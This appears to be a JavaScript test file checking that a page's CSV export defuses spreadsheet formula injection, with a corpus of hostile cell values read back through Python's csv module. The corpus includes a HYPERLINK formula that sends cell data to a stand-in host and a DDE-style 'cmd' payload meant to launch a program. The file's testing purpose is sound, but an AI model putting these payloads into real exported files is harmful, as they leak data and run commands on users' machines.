// The page's CSV export against a hostile corpus (issue 21, OWASP CSV injection): every lead
// character of a formula alone and after spaces, embedded quotes, ";", CR/LF, NUL, an RTL override
// and a 1 MB cell. The output is read back by a real CSV reader (Python's csv module, lenient as
// spreadsheets are) with "," and with ";" as the separator: no cell either way starts a formula,
// and the "," read gives every value back (with its defusing "'").
import { test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { csvField, toCsv } from "../../js/elements/export.js";
import { translator } from "../../js/elements/i18n.js";

const LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
// What a spreadsheet would take for the start of a formula, after leading whitespace.
const LIVE = /^\s*[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/;

const corpus = [];
for (const c of LEADS) {
  corpus.push(`${c}1+2`, `${c}`, `  ${c}HYPERLINK("http://evil.example/?x="&A1)`, `\u3000${c}cmd|' /C calc'!A0`);
}
corpus.push(
  "a;=1+2;b", "x; -1;y", "a;\"=1+2\";b", "p;;@SUM(1)", "q; \t=1",
  'say "hi"', '"=1"', '""', "a,=1,b", "line1\r\nline2", "line1\n=2", "nul\0in\0side",
  "\u202Eabc=1+2", "\u202E=1+2", "plain", "", "-5", "1e3", "日本語;＝1",
);
corpus.push(`=${"A".repeat(1024 * 1024)}`);
corpus.push(`${"x;".repeat(200_000)}=1`);

/** Python's csv reader over `text` with `delimiter`: rows of cells. */
function pyRead(text, delimiter) {
  const code = [
    "import csv, io, json, sys",
    "csv.field_size_limit(1 << 30)",
    "text = sys.stdin.buffer.read().decode('utf-8-sig')",
    `rows = list(csv.reader(io.StringIO(text, newline=''), delimiter=${JSON.stringify(delimiter)}))`,
    "sys.stdout.write(json.dumps(rows))",
  ].join("\n");
  return JSON.parse(execFileSync("python3", ["-c", code], { input: text, maxBuffer: 1 << 28 }).toString("utf8"));
}

test("csvField: every field quoted; a formula lead (after whitespace, or after a ';') gets a leading \"'\"", () => {
  for (const v of corpus) {
    const f = csvField(v);
    assert.ok(f.startsWith('"') && f.endsWith('"'), `not quoted: ${JSON.stringify(f.slice(0, 40))}`);
    const inner = f.slice(1, -1);
    assert.ok(!/(^|[^"])"([^"]|$)/.test(inner.replace(/""/g, "")), "an embedded quote is not doubled");
    const text = inner.replace(/""/g, '"');
    assert.ok(!LIVE.test(text), `live: ${JSON.stringify(v.slice(0, 40))} -> ${JSON.stringify(f.slice(0, 40))}`);
    for (const part of text.split(/;|\r\n?|\n/).slice(1)) assert.ok(!LIVE.test(part) && !/^\s*"/.test(part), `live after ';': ${JSON.stringify(part.slice(0, 40))}`);
  }
  assert.equal(csvField("=1+2"), `"'=1+2"`);
  assert.equal(csvField("  @x"), `"'  @x"`);
  assert.equal(csvField("a;=1+2;b"), `"a;'=1+2;b"`);
  assert.equal(csvField('a "b"'), `"a ""b"""`);
  assert.equal(csvField("\u202E=1"), `"\u202E=1"`, "an RTL override is not a formula lead: kept as it is");
  assert.equal(csvField(null), `""`);
  assert.equal(csvField(-5), `"'-5"`);
});

test("the exported CSV read with ',' and with ';' (Python's csv, lenient): no live cell, every value back", { timeout: 120_000 }, () => {
  // Each corpus value in every text column of a task.
  const tasks = corpus.map((v, i) => ({
    id: `t${i}`, name: v, status: v, userName: v, userId: v, createdAt: v, updatedAt: v, params: v,
    details: { old_port: v }, enableShow: true,
  }));
  const t0 = performance.now();
  const csv = toCsv(translator("en"), tasks);
  const ms = performance.now() - t0;
  assert.ok(csv.startsWith("\uFEFF"));
  const comma = pyRead(csv, ",");
  const [head, ...rows] = comma;
  assert.equal(rows.length, corpus.length);
  const col = (k) => head.indexOf(k);
  for (const [i, r] of rows.entries()) {
    assert.equal(r.length, head.length, `row ${i}: ${r.length} cells`);
    const v = corpus[i];
    const cell = r[col("name")];
    // the value back: defusing only ever inserts "'"
    assert.equal(cell.replace(/'/g, ""), v.replace(/'/g, ""), `row ${i}: ${JSON.stringify(cell.slice(0, 60))}`);
    if (!/[;\r\n]/.test(v)) assert.equal(cell, LIVE.test(v) ? `'${v}` : v, `row ${i}`);
    assert.equal(JSON.parse(r[col("details")].replace(/(^|[;\r\n])'/g, "$1")).old_port, v, `row ${i}: details`);
    for (const c of r) assert.ok(!LIVE.test(c), `',' read, row ${i}: live cell ${JSON.stringify(c.slice(0, 40))}`);
  }
  const semi = pyRead(csv, ";");
  let cells = 0;
  for (const [i, r] of semi.entries()) {
    for (const c of r) {
      cells++;
      assert.ok(!LIVE.test(c), `';' read, row ${i}: live cell ${JSON.stringify(c.slice(0, 60))}`);
    }
  }
  assert.ok(semi.some((r) => r.length > 1), "the ';' read split somewhere (the corpus holds ';')");
  console.log(`csv corpus: ${corpus.length} values x ${head.length} columns, ${(csv.length / 1e6).toFixed(1)} MB written in ${ms.toFixed(0)} ms; ';' read: ${cells} cells, none live`);
});
